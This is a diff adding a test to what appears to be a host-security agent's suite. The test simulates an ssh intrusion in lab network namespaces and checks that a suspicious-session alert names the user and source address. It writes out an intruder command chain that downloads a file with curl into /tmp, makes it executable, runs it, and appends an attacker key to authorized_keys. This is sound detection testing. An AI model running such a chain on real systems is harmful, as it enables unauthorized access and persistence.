@@ -252,3 +252,38 @@ test("BF-5 a weak password on a real local account is found by the agent, and ch
   assert.equal(await weakOf(), undefined, "the changed password clears the finding at once");
   t.diagnostic(`second run: ${second.checked} accounts in ${second.durationMs} ms`);
 });
+
+test("LOG-8 real sshd: a session that downloads a file, runs it from /tmp and installs an authorized key is one suspicious-session alert naming the account and address", { skip: skip ?? false, timeout: 120_000 }, async (t) => {
+  const user = `hwses${id}`;
+  const password = randomBytes(18).toString("base64url");
+  addUser(user, password);
+  // the attacker's download server in atk: answers after a second, as a slow link does (the
+  // agent samples /proc every 250 ms: a process must live that long to be seen)
+  const port = 18000 + (id % 1000);
+  const payload = "#!/bin/sh\\nsleep 1\\n";
+  const web = spawn("ip", ["netns", "exec", ATK, process.execPath, "-e", `require("http").createServer((q,s)=>setTimeout(()=>s.end("${payload}"),1000)).listen(${port},"${HOME}")`], { stdio: "ignore", detached: true });
+  try {
+    await waitFor("download server", () => tcpConnects(SRV, HOME, port), 10_000, 100);
+    const drop = `/tmp/.hw-${id}`;
+    // one ssh command as intruders run it: download, make executable and run, persist a key
+    const cmd = [
+      `curl -s -m 5 http://${HOME}:${port}/x -o ${drop}`,
+      `chmod +x ${drop}`,
+      `${drop}`,
+      `bash -c 'mkdir -p ~/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHw attacker" >> ~/.ssh/authorized_keys; sleep 1'`,
+    ].join("; ");
+    const code = await new Promise<number | null>((resolve) => {
+      const p = spawn("ip", ["netns", "exec", ATK, "sshpass", "-p", password, "ssh", "-b", HOME, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=3", "-o", "LogLevel=ERROR", `${user}@${SSHD}`, cmd], { stdio: "ignore" });
+      p.on("exit", (c) => resolve(c));
+    });
+    assert.equal(code, 0, "the session's commands ran");
+    const alert = await waitFor("suspicious-session alert", async () => ((await api(`/api/v1/alerts?type=suspicious_ssh_session`)).json().items as { evidence: Record<string, unknown> }[]).find((a) => (a.evidence.session as { user?: string } | undefined)?.user === user), 20_000, 100);
+    const session = alert.evidence.session as { user: string; sourceIp?: string; sshdPid: number };
+    assert.equal(session.sourceIp, HOME, "the session's client address, from its sshd's socket");
+    assert.ok(session.sshdPid > 1);
+    t.diagnostic(`suspicious session of ${session.user} from ${session.sourceIp}: stage ${String(alert.evidence["process.stage"])}, ${String(alert.evidence["process.command_line"]).slice(0, 80)}`);
+  } finally {
+    try { if (web.pid) process.kill(-web.pid, "SIGKILL"); } catch { /* gone */ }
+    spawnSync("userdel", ["-r", user], { stdio: "ignore" });
+  }
+});
